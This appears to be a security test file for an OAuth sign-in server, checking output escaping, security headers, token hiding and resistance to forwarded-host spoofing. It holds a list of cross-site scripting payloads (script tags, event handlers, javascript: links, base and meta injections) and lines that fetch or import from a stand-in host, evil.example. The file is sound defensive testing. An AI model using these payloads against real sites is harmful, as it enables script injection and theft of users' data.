// Hostile text in every input that comes back in a page (case K10), the headers every page carries (K8), and what pages
// may load or keep (K24). Every payload in every text of every page is in unit/views/escaping.test.ts; here each way of
// breaking out goes through each input.
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { Browser } from '../helpers/browser.ts';
import { APPLICATION, CALLBACK, type Client, givenClient } from '../helpers/client.ts';
import { type Hosts, startHosts } from '../helpers/hosts.ts';
import type { Page } from '../helpers/html-page.ts';
import { newPerson, signUp } from '../helpers/people.ts';

let hosts: Hosts;
let client: Client;

beforeAll(async () => {
  hosts = await startHosts();
  client = await givenClient(hosts);
});

afterAll(() => hosts?.stop());

const ACTS = [
  'alert(1)',
  'fetch(`//evil.example`)',
  "document.location='//evil.example'",
  'import("//evil.example/x.js")',
];
const SHELLS = [
  (act: string) => `<script>${act}</script>`,
  (act: string) => `"><script>${act}</script>`,
  (act: string) => `'><script>${act}</script>`,
  (act: string) => `</title><script>${act}</script>`,
  (act: string) => `</textarea><script>${act}</script>`,
  (act: string) => `<img src=x onerror=${act}>`,
  (act: string) => `"><img src=x onerror="${act}">`,
  (act: string) => `<svg/onload=${act}>`,
  (act: string) => `" onfocus="${act}" autofocus="`,
  (act: string) => `' onmouseover='${act}`,
  (act: string) => `<iframe srcdoc="<script>${act}</script>">`,
  (act: string) => `<a href="javascript:${act}">x</a>`,
  (act: string) => `<!--><script>${act}</script>-->`,
  (act: string) => `<style>@import '//evil.example';</style>${act}`,
  (act: string) => `<base href="//evil.example/">${act}`,
  (act: string) => `<meta http-equiv="refresh" content="0;url=//evil.example">${act}`,
];
const PAYLOADS = SHELLS.map((shell, index) => shell(ACTS[index % ACTS.length] ?? ''));
/** An element, an attribute, an element behind one of ours, a style. */
const FEW = PAYLOADS.filter((_, index) => index % 4 === 1);

/** Text only: nothing of the payload stands in the page as markup, and nothing of ours refers to another host. */
function expectInert(page: Page, payload: string) {
  // What stands between quotes is a value, whatever it looks like; a payload that broke out stands outside.
  const markup = page.html.replace(/"[^"]*"/g, '""');
  const found = [
    // Single quotes need no escaping: every attribute of ours stands between double ones.
    /[<"]/.test(payload) && page.html.includes(payload) && 'the payload as it was sent',
    /<[a-z][^>]*\son[a-z]+\s*=/i.test(markup) && 'an event handler',
    /<(?:iframe|base|style|meta http-equiv)\b/i.test(markup) && 'a foreign element',
    /<(?:script|img)\b(?! src="\/assets\/)/i.test(page.html) && 'a script or image that is not ours',
    /\s(?:src|href|action)="\s*(?:javascript:|data:|\/\/)/i.test(page.html) && 'a link that runs or leads away',
  ].filter(Boolean);
  expect(found, `${payload} at ${page.url.pathname}`).toEqual([]);
}

describe('K10: reflected input comes back as text', () => {
  const inQuery: Record<string, (payload: string) => string> = {
    client_id: (payload) => `client_id=${encodeURIComponent(payload)}&redirect_uri=x&response_type=code`,
    redirect_uri: (payload) =>
      `client_id=${client.apiKey}&redirect_uri=${encodeURIComponent(payload)}&response_type=code`,
    state: (payload) => `${new URL(client.authorizeUrl({ state: payload })).searchParams}`,
    login_hint: (payload) => `${new URL(client.authorizeUrl({ login_hint: payload })).searchParams}`,
    ui_locales: (payload) => `${new URL(client.authorizeUrl({ ui_locales: payload })).searchParams}`,
    scope: (payload) => `${new URL(client.authorizeUrl({ scope: payload })).searchParams}`,
    'an unknown parameter': (payload) =>
      `${new URL(client.authorizeUrl()).searchParams}&${encodeURIComponent(payload)}=${encodeURIComponent(payload)}`,
  };

  test.each(Object.keys(inQuery))('%s', async (name) => {
    for (const payload of PAYLOADS) {
      const page = await new Browser().open(`${hosts.authUrl}/oauth/authorize?${inQuery[name]?.(payload)}`);
      expect(page.html.length).toBeGreaterThan(500);
      expectInert(page, payload);
    }
  });

  test('the path of an unknown page', async () => {
    for (const payload of PAYLOADS) {
      expectInert(await new Browser().open(`${hosts.authUrl}/${encodeURIComponent(payload)}`), payload);
    }
  });

  test('what was typed into sign-in and sign-up', async () => {
    const browser = new Browser();
    for (const payload of PAYLOADS.slice(0, 8)) {
      const login = await browser.open(`${hosts.authUrl}/login`);
      expectInert(await browser.submit(login.form({ action: '/login' }), { email: payload, password: '' }), payload);
      const form = (await browser.open(`${hosts.authUrl}/sign-up`)).form({ action: '/sign-up' });
      const back = await browser.submit(form, { email: payload, nickname: payload, password: 'x' });
      expect(back.status).toBe(400);
      expectInert(back, payload);
    }
  });
});

describe('K10: stored text comes back as text', () => {
  test('nickname, application name and purpose, on consent and account pages', async () => {
    for (const payload of FEW) {
      const hostile = payload.slice(0, 60);
      const application = await givenClient(hosts, {
        ...APPLICATION,
        name: hostile,
        consent_items: [{ item: 'nickname', consent: 'required', purpose: payload }],
      });
      const browser = new Browser();
      const consent = await signUp(browser, await browser.open(application.authorizeUrl()), newPerson(hostile));
      expect(consent.url.pathname).toBe('/consent');
      expectInert(consent, payload);
      expectInert(consent, hostile);
      await browser.submit(consent.form({ action: '/consent' }), {}, { press: 'agree', stopAt: CALLBACK });
      for (const path of ['/account', '/account/connections', '/account/receipts', '/account/activity']) {
        const account = await browser.open(`${hosts.authUrl}${path}`);
        expect(account.status).toBe(200);
        expectInert(account, hostile);
      }
    }
  });
});

describe('K8: every HTML answer, error pages included', () => {
  const pages: Record<string, () => Promise<Page>> = {
    home: () => new Browser().open(`${hosts.authUrl}/`),
    'sign in': () => new Browser().open(`${hosts.authUrl}/login`),
    'sign up': () => new Browser().open(`${hosts.authUrl}/sign-up`),
    'sign in for an application': () => new Browser().open(client.authorizeUrl()),
    consent: () => client.browser.open(client.authorizeUrl({ prompt: 'consent' })),
    account: () => client.browser.open(`${hosts.authUrl}/account`),
    setup: () => new Browser().open(`${hosts.authUrl}/setup`),
    password: () => new Browser().open(`${hosts.authUrl}/password`),
    catalogue: () => new Browser().open(`${hosts.authUrl}/catalogue`),
    '400': () => new Browser().open(`${hosts.authUrl}/oauth/authorize`),
    'a malformed query': () => new Browser().open(`${hosts.authUrl}/login?x=%zz`),
    '404': () => new Browser().open(`${hosts.authUrl}/nothing`),
    '405': () => new Browser().open(`${hosts.authUrl}/restore-account`),
  };

  test.each(Object.keys(pages))('%s', async (name) => {
    const page = (await pages[name]?.()) as Page;
    const policy = page.headers.get('content-security-policy') ?? '';
    expect(page.headers.get('content-type')).toMatch(/^text\/html; charset=utf-8$/);
    expect(policy).toMatch(/default-src 'none'.*base-uri 'none'.*frame-ancestors 'none'/);
    expect(policy).not.toMatch(/unsafe|\*|http/);
    const leadsBack = name === 'sign in for an application' || name === 'consent';
    expect(policy.includes("form-action 'self'")).toBe(!leadsBack);
    expect(page.headers.get('x-frame-options')).toBe('DENY');
    expect(page.headers.get('x-content-type-options')).toBe('nosniff');
    expect(page.headers.get('referrer-policy')).toBe('same-origin');
    // Inside an application's request a popup keeps its opener, on error pages too: they may be tried again (decision
    // 11).
    const insideRequest = leadsBack || name === '400';
    expect(page.headers.get('cross-origin-opener-policy')).toBe(insideRequest ? 'unsafe-none' : 'same-origin');
    expect(page.headers.get('cache-control')).toContain('no-store');
    // K24: nothing from third parties, nothing inline.
    expect(page.html).not.toMatch(/(?:src|href)="(?:https?:)?\/\/(?!localhost)/);
    expect(page.html).not.toMatch(/<[^>]+\sstyle=/);
  });
});

describe('K8: a popup keeps its opener inside an application’s request, and only there (decision 11)', () => {
  const once = { follow: false };
  const posted = (path: string): Promise<Response> =>
    fetch(`${hosts.authUrl}${path}`, { method: 'POST', body: new URLSearchParams({ x: '1' }), redirect: 'manual' });
  const answers: Record<string, () => Promise<Pick<Page, 'headers' | 'status'>>> = {
    'the redirect to sign-in': () => new Browser().open(client.authorizeUrl(), once),
    'a wrong password': async () => {
      const browser = new Browser();
      const signIn = await browser.open(client.authorizeUrl());
      return browser.submit(signIn.form({ action: '/login' }), { email: client.email, password: 'wrong password' });
    },
    'the redirect with a code': () => client.browser.open(client.authorizeUrl(), once),
    'the redirect with an error': () => new Browser().open(client.authorizeUrl({ prompt: 'none' }), once),
    'the page that posts an answer': () => client.browser.open(client.authorizeUrl({ response_mode: 'form_post' })),
    'the choice of an account': () => {
      hosts.clock.advance(1);
      return client.browser.open(client.authorizeUrl({ prompt: 'select_account' }));
    },
    'a cancelled sign-in': async () => {
      const browser = new Browser();
      const signIn = await browser.open(client.authorizeUrl());
      return browser.submit(signIn.form({ action: '/login' }), {}, { ...once, press: 'cancel' });
    },
    'a request that is no longer valid': () =>
      new Browser().open(client.authorizeUrl({ prompt: 'x' }).replace('/oauth/authorize', '/login'), once),
    'a request by POST': () => posted('/oauth/authorize'),
    'signing out by POST': () => posted('/oauth/logout'),
    'signing out for an application': () => new Browser().open(`${hosts.authUrl}/oauth/logout`, once),
  };

  test.each(Object.keys(answers))('%s', async (name) => {
    const { headers, status } = await (answers[name] as NonNullable<(typeof answers)[string]>)();
    expect([status < 500, headers.get('cross-origin-opener-policy')]).toEqual([true, 'unsafe-none']);
  });
});

test('K24: codes and tokens never stand in a page', async () => {
  const tokens = await client.tokens();
  const account = await client.browser.open(`${hosts.authUrl}/account`);
  for (const secret of [tokens.access_token, tokens.refresh_token]) expect(account.html).not.toContain(secret);
});

test('Host and X-Forwarded-* never change a link, a redirect or the issuer (contract 1)', async () => {
  for (const headers of [
    { 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'https', forwarded: 'host=evil.example' },
  ]) {
    const metadata = await fetch(`${hosts.authUrl}/.well-known/oauth-authorization-server`, { headers });
    expect(await metadata.text()).not.toContain('evil');
    const response = await fetch(client.authorizeUrl(), { headers, redirect: 'manual' });
    expect(response.headers.get('location')).toMatch(/^\/login\?/);
  }
});
